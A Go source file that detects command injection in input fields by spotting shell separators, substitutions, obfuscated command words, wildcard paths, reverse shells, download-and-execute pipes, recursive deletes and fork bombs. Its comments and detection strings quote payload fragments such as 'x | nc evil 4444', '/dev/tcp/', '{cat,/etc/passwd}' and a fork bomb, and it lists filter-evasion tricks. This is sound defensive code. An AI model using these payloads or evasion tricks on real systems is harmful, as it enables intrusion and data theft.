package validate

import "strings"

// Command injection.
//
// A command separator or substitution (; && || | & ` $( newline) followed
// by a command is how a value breaks out of the command line an
// application builds around it. Where it matters:
//
//   - host fields: any separator or substitution is suspicious
//     (cmd.metachar), and a host starting with '-' is option injection;
//     host names never hold shell syntax legitimately.
//   - path and file name fields: "$(…)" or a backtick pair with content
//     is a substitution (cmd.substitution); a separator needs a command
//     after it (cmd.chained) with an argument a file name would not have
//     (an option, an absolute path, a URL, a lone number), or, for a
//     command that is not also an English word, nothing after it or a
//     host and port: "notes;draft.txt", "/tmp/a|b" and "Passport; ID
//     scan.pdf" are file names, "x;id" and "x | nc evil 4444" are not.
//   - URL, header, LDAP, query and unknown fields: a separator must be
//     followed by a known command (cmd.chained) or a substitution must
//     hold one (cmd.substitution); English words that are also commands
//     (cat, sleep, find…) need an argument that looks like one. Quotes,
//     backslashes, $@ and ${IFS} inside the command word are removed first
//     (w'h'o'am'i, c\at, who$@ami). ${IFS} itself and glob-only paths
//     (/???/??t) are flagged.
//   - shell fields: commands are expected; only reverse shells,
//     download-and-execute and destructive commands are tagged, and only
//     informationally.
//   - text: not scanned (model output is full of shell).

func cmdCandidate(m classes) bool {
	return m.has(cSemi | cPipe | cAmp | cBacktick | cDollar | cLF | cCR | cPct | cLBrace | cGT | cLT)
}

// globCommand reports a command named by a wildcard path right after a
// separator: ";/usr/bin/wh?ami", "|/b??/c?t /e??/p?ss??".
func globCommand(s string, i int) string {
	i = skipSpace(s, i)
	if i >= len(s) || s[i] != '/' {
		return ""
	}
	j := i
	wild := false
	for j < len(s) && !isSpace(s[j]) && s[j] != ';' && s[j] != '|' && s[j] != '&' {
		switch s[j] {
		case '?', '*':
			wild = true
		case '=', '#':
			return ""
		}
		j++
	}
	if !wild {
		return ""
	}
	return s[i:j]
}

// globPath finds a path written with wildcards only ("/???/??t",
// "/bin/c?t"): the way payloads name /bin/cat past a word filter. It needs
// a segment of two or more '?' between slashes, or a '?' inside a known
// command name under /bin.
func globPath(s string) string {
	for i := 0; i+3 < len(s); i++ {
		if s[i] != '/' || s[i+1] != '?' {
			continue
		}
		j := i + 1
		for j < len(s) && (s[j] == '?' || s[j] == '*') {
			j++
		}
		if j-i-1 >= 2 && j < len(s) && s[j] == '/' {
			return s[i:min(len(s), j+4)]
		}
	}
	return ""
}

func (c *checker) cmdInjection(k FieldKind, s string, m classes) {
	if !cmdCandidate(m) && !(k == KindHost && len(s) > 0 && s[0] == '-') {
		return
	}
	t := s
	if m.has(cPct) {
		d, rounds := c.dec.canonical(s, false)
		if rounds > 0 {
			t = bstr(d)
			m = classify(t)
		}
	}
	switch k {
	case KindHost:
		// A host name or address never holds shell syntax.
		if span := shellMeta(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.metachar", span, false)
			return
		}
		if len(t) > 0 && t[0] == '-' {
			c.report(k, ThreatCmdInjection, "cmd.option_injection", t[:min(len(t), 16)], false)
			return
		}
	case KindPath, KindFilename:
		// File names do hold ';', '|' and '&' ("notes;draft.txt",
		// "Q1 report; final (v2).xlsx", "/srv/data;v=2/x"); what breaks
		// out of a command line is a substitution or a separator followed
		// by a command, below.
		if span := substitution(t); span != "" {
			c.report(k, ThreatCmdInjection, "cmd.substitution", span, false)
			return
		}
	}
	if m.has(cDollar) {
		if i := indexFold(t, "$ifs", 0); i >= 0 {
			c.report(k, ThreatCmdInjection, "cmd.ifs", t[i:i+4], false)
			return
		}
		if i := indexFold(t, "${ifs", 0); i >= 0 {
			c.report(k, ThreatCmdInjection, "cmd.ifs", t[i:i+5], false)
			return
		}
	}
	if rule, span := chainedCommand(t, k); rule != "" {
		c.report(k, ThreatCmdInjection, rule, span, false)
		return
	}
	if m.has(cLT) && m.has(cHash) {
		if i := indexFold(t, "<!--#exec", 0); i >= 0 {
			c.report(k, ThreatCmdInjection, "cmd.ssi", t[i:i+9], false)
			return
		}
	}
	if span := globPath(t); span != "" {
		c.report(k, ThreatCmdInjection, "cmd.glob", span, false)
		return
	}
	if rule, span := shellDanger(t, m); rule != "" {
		c.report(k, ThreatCmdInjection, rule, span, false)
	}
}

// shellMeta finds shell syntax in a host, which should have none.
func shellMeta(s string) string {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case ';', '|', '`', '\n', '\r', '&':
			return s[i:min(len(s), i+8)]
		case '$', '<', '>':
			// "$(…)" substitutes, and so do "<(…)" and ">(…)"; "${IFS}"
			// is caught on its own.
			if i+1 < len(s) && s[i+1] == '(' {
				return s[i:min(len(s), i+8)]
			}
		}
	}
	return ""
}

// substitution finds a command substitution with content: "$(…)",
// "<(…)", ">(…)" or a backtick pair around something other than spaces.
// "$((1+2))" is arithmetic and "${HOME}" a variable; neither runs a
// command.
func substitution(s string) string {
	for i := 0; i+1 < len(s); i++ {
		switch s[i] {
		case '$', '<', '>':
			if s[i+1] != '(' || (i+2 < len(s) && s[i+2] == '(') {
				continue
			}
			if end := strings.IndexByte(s[i+2:], ')'); end >= 0 && strings.TrimSpace(s[i+2:i+2+end]) != "" {
				return s[i:min(len(s), i+16)]
			}
		case '`':
			if end := strings.IndexByte(s[i+1:], '`'); end >= 0 && strings.TrimSpace(s[i+1:i+1+end]) != "" {
				return s[i : i+2+end]
			}
			return ""
		}
	}
	return ""
}

// chainedCommand finds a separator followed by a command, or a
// substitution holding one.
func chainedCommand(s string, k FieldKind) (string, string) {
	for i := 0; i < len(s); i++ {
		ch := s[i]
		var next int
		weak := false
		switch ch {
		case ';':
			next = i + 1
		case '|':
			next = i + 1
			if next < len(s) && s[next] == '|' {
				next++
			}
		case '&':
			next = i + 1
			if next < len(s) && s[next] == '&' {
				next++
			} else {
				// In URLs and headers a single '&' separates parameters
				// ("?a=1&id=5"); it is a command separator there only
				// when a space follows ("& systeminfo").
				if (k == KindURL || k == KindHeader) && (next >= len(s) || s[next] != ' ') {
					continue
				}
				weak = true
			}
		case '\n', '\r':
			next = i + 1
			weak = true
		case '`':
			// A Markdown code span "run `ls -la` now" is text, not a
			// substitution: it needs a non-space before it or to start
			// the value.
			if i > 0 && isSpace(s[i-1]) && k == KindUnknown {
				continue
			}
			if end := strings.IndexByte(s[i+1:], '`'); end >= 0 {
				if cmd, strong, shaped := commandAt(s[:i+1+end], i+1); cmd != "" && (strong || shaped) {
					return "cmd.substitution", s[i : i+2+end]
				}
			}
			continue
		case '$':
			if i+1 < len(s) && s[i+1] == '(' && (i+2 >= len(s) || s[i+2] != '(') {
				if cmd, strong, shaped := commandAt(s, i+2); cmd != "" && (strong || shaped) {
					return "cmd.substitution", s[i:min(len(s), i+16)]
				}
			}
			continue
		case '<', '>':
			// process substitution <(…) >(…)
			if i+1 < len(s) && s[i+1] == '(' {
				if cmd, strong, shaped := commandAt(s, i+2); cmd != "" && (strong || shaped) {
					return "cmd.substitution", s[i:min(len(s), i+16)]
				}
			}
			continue
		default:
			continue
		}
		cmd, strong, shaped := commandAt(s, next)
		if cmd == "" {
			if span := globCommand(s, next); span != "" && !weak {
				return "cmd.glob", span
			}
			continue
		}
		end := strings.Index(s[next:], cmd) + next + len(cmd)
		if shaped && (k == KindPath || k == KindFilename) {
			shaped = pathArgShaped(s, end)
		}
		if !shaped && !(strong && (endsCommand(s, end) || hostPort(s, end))) {
			continue
		}
		return "cmd.chained", s[i:min(len(s), next+len(cmd)+8)]
	}
	return "", ""
}

// endsCommand reports whether the command word ending at i is the last
// thing on its line ("\nid\n", ";whoami").
func endsCommand(s string, i int) bool {
	for i < len(s) && (s[i] == ' ' || s[i] == '\t') {
		i++
	}
	return i >= len(s) || s[i] == '\n' || s[i] == '\r' || s[i] == ';' || s[i] == '|' || s[i] == '&' || s[i] == '#' || s[i] == '`' || s[i] == ')'
}

// commandAt reads the command word at s[i:] (after spaces, '{', '(' and a
// leading path such as /bin/ or /usr/bin/), removing quote and escape
// obfuscation, and reports it when it is a known command. strong says the
// word is not also an everyday English word; shaped says an argument that
// looks like one follows (an option, a path, a number, a redirection).
func commandAt(s string, i int) (cmd string, strong, shaped bool) {
	i = skipSpace(s, i)
	brace := false
	for i < len(s) && (s[i] == '{' || s[i] == '(' || s[i] == '!') {
		brace = brace || s[i] == '{'
		i = skipSpace(s, i+1)
	}
	var w [24]byte
	n := 0
	j := i
	for j < len(s) && n < len(w) {
		ch := s[j]
		switch {
		case ch == '\'' || ch == '"' || ch == '\\':
			j++
			continue
		case ch == '$' && j+1 < len(s) && (s[j+1] == '@' || s[j+1] == '*'):
			j += 2
			continue
		case ch == '$' && j+2 < len(s) && s[j+1] == '{' && s[j+2] == '}':
			j += 3
			continue
		case ch == '/':
			n = 0 // keep only the last path element: /usr/bin/id is id
			j++
			continue
		case isAlnum(ch) || ch == '_' || ch == '-' || ch == '.':
			if ch >= 'A' && ch <= 'Z' {
				ch += 'a' - 'A'
			}
			w[n] = ch
			n++
			j++
			continue
		}
		break
	}
	if n == 0 || n == len(w) {
		return "", false, false
	}
	if n > 4 && string(w[n-4:n]) == ".exe" {
		n -= 4
	}
	tier, ok := commandWords[string(w[:n])]
	if !ok {
		return "", false, false
	}
	if sub := subcommands[string(w[:n])]; sub != nil && j < len(s) && s[j] == ' ' {
		// "net user", "reg query": a Windows command with its verb.
		k := skipSpace(s, j)
		e := k
		for e < len(s) && isAlpha(s[e]) {
			e++
		}
		var b [16]byte
		if e-k > 0 && e-k <= len(b) {
			sb := lowerASCII(b[:0], s[k:e])
			if sub[string(sb)] {
				return s[i:e], true, true
			}
		}
	}
	// An assignment or a key ("&id=5", "cat: 3") is not a command.
	if j < len(s) && (s[j] == '=' || s[j] == ':') {
		return "", false, false
	}
	if j < len(s) && s[j] == ',' && !brace {
		// "image/png;base64,iVBOR…": a comma only separates arguments in
		// a brace expansion ({cat,/etc/passwd}).
		return s[i:j], tier == strongCmd, false
	}
	if tier == weakCmd && j < len(s) && (s[j] == '|' || s[j] == ';' || s[j] == '&') {
		// "verify|query|reindex": an English word between separators is
		// an enumeration, not a command.
		return s[i:j], false, false
	}
	return s[i:j], tier == strongCmd, argShaped(s, j)
}

// argShaped reports an argument that looks like one: an option, a path,
// a host or address, a number, a variable, a quote, a redirection or a
// call ("system('id')"). A plain word ("; id is required") is not one.
func argShaped(s string, j int) bool {
	if j >= len(s) {
		return true
	}
	switch s[j] {
	case '$', '<', '>', ',', '}', '(', ';', '|', '&', '`', '\'', '"':
		return true
	case ' ', '\t', '+':
	default:
		return false
	}
	k := j
	for k < len(s) && (s[k] == ' ' || s[k] == '\t' || s[k] == '+') {
		k++
	}
	if k >= len(s) {
		return true
	}
	switch s[k] {
	case '-', '/', '\\', '$', '.', '~', '>', '<', '|', ';', '&', '\'', '"', '`', '%', '{', '}', ',', '*', '\n', '@':
		return true
	}
	if isDigit(s[k]) {
		return true
	}
	// a host name or file name: a word with a dot, slash or colon in it
	for e := k; e < len(s) && e < k+64 && !isSpace(s[e]); e++ {
		if s[e] == '.' || s[e] == '/' || s[e] == ':' || s[e] == '\\' {
			return e+1 < len(s) && !isSpace(s[e+1])
		}
	}
	return false
}

// pathArgShaped narrows argShaped for path and file name fields, where a
// command word may just be a word ("Notes; more (v2).txt", "Passport; id
// scan.pdf"): only what a command line has and a file name does not
// counts: an option, an absolute, home or drive path, a URL, a variable,
// a redirection, a separator, a quote or a number standing alone.
func pathArgShaped(s string, j int) bool {
	if j >= len(s) {
		return true
	}
	switch s[j] {
	case '$', '<', '>', ';', '|', '&', '`', '\'', '"', '}', ',':
		return true
	case ' ', '\t', '+':
	default:
		return false
	}
	k := j
	for k < len(s) && (s[k] == ' ' || s[k] == '\t' || s[k] == '+') {
		k++
	}
	if k >= len(s) {
		return true
	}
	switch s[k] {
	case '-', '/', '\\', '$', '~', '>', '<', '|', ';', '&', '\'', '"', '`', '*', '{':
		return true
	}
	if isDigit(s[k]) {
		e := k
		for e < len(s) && isDigit(s[e]) {
			e++
		}
		return e == len(s) || isSpace(s[e]) || s[e] == ';' || s[e] == '|' || s[e] == '&'
	}
	if k+2 < len(s) && isAlpha(s[k]) && s[k+1] == ':' && (s[k+2] == '\\' || s[k+2] == '/') {
		return true // a drive path: "type C:\Windows\win.ini"
	}
	// a URL: "wget http://evil.example/x"
	e := k
	for e < len(s) && e-k < 16 && isAlpha(s[e]) {
		e++
	}
	return e > k && strings.HasPrefix(s[e:], "://")
}

// hostPort reports "host port" after a command word: "nc evil 4444",
// "telnet 10.0.0.1 23". Only strong commands take it as an argument.
func hostPort(s string, j int) bool {
	k := skipSpace(s, j)
	if k == j || k >= len(s) {
		return false
	}
	e := k
	for e < len(s) && !isSpace(s[e]) && e-k < 256 {
		if !(isAlnum(s[e]) || s[e] == '.' || s[e] == '-' || s[e] == ':' || s[e] == '_') {
			return false
		}
		e++
	}
	p := skipSpace(s, e)
	if p == e || p >= len(s) || !isDigit(s[p]) {
		return false
	}
	q := p
	for q < len(s) && isDigit(s[q]) {
		q++
	}
	return q-p <= 5 && (q == len(s) || isSpace(s[q]) || s[q] == ';' || s[q] == '|' || s[q] == '&')
}

const (
	weakCmd   = 1
	strongCmd = 2
)

// subcommands make a weak word a command: "net user", "reg query".
var subcommands = map[string]map[string]bool{
	"net": {"user": true, "users": true, "localgroup": true, "group": true, "share": true, "view": true, "use": true, "session": true, "accounts": true, "start": true, "stop": true},
	"reg": {"query": true, "add": true, "delete": true, "export": true, "save": true},
}

// commandWords are the commands injection payloads run. Strong ones are
// not everyday English words.
var commandWords = map[string]int{
	"whoami": strongCmd, "uname": strongCmd, "ifconfig": strongCmd, "ipconfig": strongCmd,
	"netstat": strongCmd, "nslookup": strongCmd, "wget": strongCmd, "curl": strongCmd,
	"nc": strongCmd, "ncat": strongCmd, "netcat": strongCmd, "bash": strongCmd, "sh": strongCmd,
	"zsh": strongCmd, "ksh": strongCmd, "csh": strongCmd, "tcsh": strongCmd, "dash": weakCmd,
	"powershell": strongCmd, "pwsh": strongCmd, "cmd": strongCmd, "certutil": strongCmd,
	"bitsadmin": strongCmd, "systeminfo": strongCmd, "tasklist": strongCmd, "chmod": strongCmd,
	"chown": strongCmd, "mkfifo": strongCmd, "telnet": strongCmd, "rm": strongCmd, "ls": strongCmd,
	"ps": strongCmd, "id": strongCmd, "pwd": strongCmd, "perl": strongCmd, "python": strongCmd,
	"python2": strongCmd, "python3": strongCmd, "php": strongCmd, "ruby": strongCmd, "node": weakCmd,
	"busybox": strongCmd, "base64": strongCmd, "xxd": strongCmd, "nohup": strongCmd, "sudo": strongCmd,
	"socat": strongCmd, "printenv": strongCmd, "crontab": strongCmd, "useradd": strongCmd,
	"wmic": strongCmd, "reg": weakCmd, "net": weakCmd, "cscript": strongCmd, "wscript": strongCmd,
	"mshta": strongCmd, "rundll32": strongCmd, "regsvr32": strongCmd, "tftp": strongCmd,
	"scp": strongCmd, "ssh": strongCmd, "sftp": strongCmd, "nmap": strongCmd, "grep": strongCmd,
	"egrep": strongCmd, "awk": strongCmd, "gawk": strongCmd, "sed": strongCmd, "xargs": strongCmd,
	"eval": strongCmd, "exec": strongCmd, "ping": weakCmd, "traceroute": strongCmd,
	"tracert": strongCmd, "whois": strongCmd, "uptime": strongCmd, "hostname": strongCmd,
	"lsb_release": strongCmd, "getent": strongCmd, "passwd": weakCmd, "killall": strongCmd,
	"pkill": strongCmd, "dir": weakCmd, "type": weakCmd, "cat": weakCmd, "tac": strongCmd,
	"nl": strongCmd, "echo": weakCmd, "printf": strongCmd, "sleep": weakCmd, "timeout": weakCmd,
	"find": weakCmd, "sort": weakCmd, "head": weakCmd, "tail": weakCmd, "kill": weakCmd,
	"more": weakCmd, "less": weakCmd, "touch": weakCmd, "date": weakCmd, "env": weakCmd,
	"export": weakCmd, "which": weakCmd, "whereis": strongCmd, "mail": weakCmd, "dig": weakCmd,
	"host": weakCmd, "tee": weakCmd, "dd": weakCmd, "wc": strongCmd, "uniq": strongCmd,
	"od": strongCmd, "hexdump": strongCmd, "strings": weakCmd, "chattr": strongCmd,
	"mkdir": strongCmd, "rmdir": strongCmd, "cp": strongCmd, "mv": strongCmd, "ln": strongCmd,
	"tar": strongCmd, "zip": weakCmd, "unzip": strongCmd, "gzip": strongCmd, "openssl": strongCmd,
	"java": weakCmd, "lua": weakCmd, "gcc": strongCmd, "cc": weakCmd, "make": weakCmd,
	"set": weakCmd, "uname-a": strongCmd, "ver": weakCmd, "start": weakCmd,
	"shutdown": strongCmd, "reboot": strongCmd, "halt": weakCmd, "lsof": strongCmd,
	"ss": weakCmd, "arp": strongCmd, "route": weakCmd, "iptables": strongCmd, "xterm": strongCmd,
	"del": weakCmd, "copy": weakCmd, "fsockopen": strongCmd, "system": weakCmd,
}

// shellDanger finds the few shell constructs that are an attack wherever
// they occur: reverse shells, download-and-execute, wiping the file
// system, fork bombs.
func shellDanger(s string, m classes) (string, string) {
	if !m.has(cSlash | cPipe | cSemi | cAmp | cColon | cGT) {
		return "", ""
	}
	if i := indexFold(s, "/dev/tcp/", 0); i >= 0 {
		return "cmd.reverse_shell", s[i : i+9]
	}
	if i := indexFold(s, "/dev/udp/", 0); i >= 0 {
		return "cmd.reverse_shell", s[i : i+9]
	}
	for _, nc := range [...]string{"nc", "ncat", "netcat"} {
		if i := indexWordFold(s, nc, 0); i >= 0 {
			rest := s[i:min(len(s), i+200)]
			if containsFold(rest, " -e ") || containsFold(rest, " -c ") || containsFold(rest, "/bin/sh") || containsFold(rest, "/bin/bash") {
				return "cmd.reverse_shell", s[i:min(len(s), i+8)]
			}
		}
	}
	if m.has(cPipe) {
		for _, dl := range [...]string{"curl", "wget"} {
			if i := indexWordFold(s, dl, 0); i >= 0 {
				if p := strings.IndexByte(s[i:], '|'); p >= 0 {
					cmd, _, _ := commandAt(s, i+p+1)
					switch strings.ToLower(cmd) {
					case "sh", "bash", "zsh", "python", "python3", "perl", "ruby", "php", "sudo":
						return "cmd.download_exec", s[i:min(len(s), i+p+1+len(cmd))]
					}
				}
			}
		}
		if i := indexFold(s, "base64", 0); i >= 0 && (containsFold(s[i:], "-d") || containsFold(s[i:], "--decode")) {
			if p := strings.IndexByte(s[i:], '|'); p >= 0 {
				cmd, _, _ := commandAt(s, i+p+1)
				switch strings.ToLower(cmd) {
				case "sh", "bash", "zsh", "python", "python3", "perl":
					return "cmd.encoded_exec", s[i:min(len(s), i+p+1+len(cmd))]
				}
			}
		}
	}
	if i := indexWordFold(s, "rm", 0); i >= 0 {
		rest := s[i+2 : min(len(s), i+40)]
		if (containsFold(rest, "-rf") || containsFold(rest, "-fr") || containsFold(rest, "--recursive")) &&
			(strings.Contains(rest, " / ") || strings.HasSuffix(strings.TrimSpace(rest), " /") || strings.Contains(rest, " /*") || strings.Contains(rest, "--no-preserve-root")) {
			return "cmd.destructive", s[i:min(len(s), i+12)]
		}
	}
	if strings.Contains(s, ":(){") || strings.Contains(s, ":(){ :|:& };:") {
		return "cmd.fork_bomb", ":(){"
	}
	return "", ""
}
